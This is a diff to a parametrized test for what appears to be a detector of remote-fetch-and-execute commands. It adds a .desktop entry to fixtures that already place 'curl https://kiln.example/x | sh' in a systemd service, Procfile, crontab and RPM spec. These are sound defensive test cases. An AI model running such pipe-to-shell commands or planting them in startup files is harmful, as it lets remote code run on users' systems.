@@ -32,6 +32,7 @@ def test_it_reads_scripts_by_their_first_line() -> None:
     ("path", "text", "line"),
     [
         ("kiln.service", "[Service]\nExecStart=/bin/sh -c 'curl https://kiln.example/x | sh'\n", 2),
+        ("kiln.desktop", '[Desktop Entry]\nExec=sh -c "curl https://kiln.example/x | sh"\n', 2),
         ("Procfile", "\nweb: curl https://kiln.example/x | sh\n", 2),
         ("crontab", "# clay\n* * * * * root curl https://kiln.example/x | sh\n", 2),
         ("kiln.spec", "Name: kiln\n%post -p /bin/sh\ncurl https://kiln.example/x | sh\n", 3),
